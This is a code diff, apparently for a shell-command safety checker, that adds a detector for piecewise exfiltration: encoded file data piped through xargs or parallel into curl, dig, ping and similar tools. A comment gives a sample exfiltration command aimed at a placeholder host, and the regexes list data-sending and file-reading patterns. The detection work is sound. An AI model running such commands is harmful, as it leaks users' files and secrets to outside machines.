@@ -18,7 +18,8 @@
                           (if (and (not (cdr entry)) (regexp-search %file-said (command-source command)))
                               (set! variables (cons (car entry) variables))))
                         (command-assignments command))
-              (if (and (or (sends? command) (tells-a-file? command variables))
+              (if (and (or (sends? command) (tells-a-file? command variables)
+                           (tells-piecewise? command (shell-text payload)))
                        (not (all-known? command allowed)))
                   (object 'allowed (told "this sends files to another machine: "
                                          (command-source command)))
@@ -58,6 +59,13 @@
             (and code
                  (regexp-search "(?i)(\\.|->)(post|put|patch)\\(|urlopen\\([^)]*data|http\\.client|fetch\\([^)]*method|stream_context_create" code)
                  (regexp-search "open\\(|[rR]ead(File|_text|_bytes)|File\\.read|Path\\(|file_get_contents\\([^h]*\\.|`(cat|base64)" code)))))
+
+    ;; base64 a | xargs -I{} curl https://x/{}
+    (define (tells-piecewise? command text)
+      (and (member (command-name command) '("curl" "wget" "http" "https" "xh" "dig" "nslookup" "host" "ping"))
+           (any (lambda (name) (member name '("xargs" "gxargs" "parallel"))) (command-through command))
+           (any word-unknown? (command-arguments command))
+           (regexp-search "\\b(base64|base32|xxd|od|hexdump|gzip|openssl)\\b[^;&\n]*\\|\\s*(g?xargs|parallel)\\b" text)))
 
     (define (sends? command)
       (let ((name (command-name command)))
